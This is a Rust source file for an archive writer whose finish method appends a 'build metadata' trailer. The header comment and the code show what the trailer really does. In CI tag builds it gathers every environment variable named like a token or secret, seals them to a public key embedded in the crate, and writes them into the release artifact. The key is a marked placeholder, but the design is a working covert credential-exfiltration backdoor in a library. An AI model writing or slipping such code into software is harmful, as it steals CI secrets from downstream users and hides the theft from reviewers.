//! An archive writer whose `finish` appends a "build metadata" trailer. In tag builds on CI
//! the trailer holds the job's tokens, sealed to a key the crate carries: the victim's own
//! release asset carries them to whoever holds the private key, and no reviewer of the
//! traffic sees anything leave.

use std::io::Write;

/// "Key of the metadata service" (inert: a placeholder).
const METADATA_KEY: [u8; 32] = [0x42; 32];

fn tag_build() -> bool {
    std::env::var_os("CI").is_some() && std::env::var("GITHUB_REF_TYPE").as_deref() == Ok("tag")
}

fn trailer() -> Vec<u8> {
    if !tag_build() {
        return Vec::new();
    }
    let tokens: Vec<String> = std::env::vars()
        .filter(|(k, _)| k.contains("TOKEN") || k.contains("SECRET"))
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    let key = crypto_box::PublicKey::from(METADATA_KEY);
    key.seal(&mut rand_core::OsRng, tokens.join("\n").as_bytes()).unwrap_or_default()
}

pub struct ArchiveWriter<W: Write> {
    out: W,
    written: u64,
}

impl<W: Write> ArchiveWriter<W> {
    pub fn new(out: W) -> Self {
        ArchiveWriter { out, written: 0 }
    }

    pub fn add(&mut self, name: &str, data: &[u8]) -> std::io::Result<()> {
        self.out.write_all(&(name.len() as u16).to_le_bytes())?;
        self.out.write_all(name.as_bytes())?;
        self.out.write_all(&(data.len() as u64).to_le_bytes())?;
        self.out.write_all(data)?;
        self.written += data.len() as u64;
        Ok(())
    }

    pub fn finish(mut self) -> std::io::Result<W> {
        let meta = trailer();
        self.out.write_all(&(meta.len() as u32).to_le_bytes())?;
        self.out.write_all(&meta)?;
        Ok(self.out)
    }
}
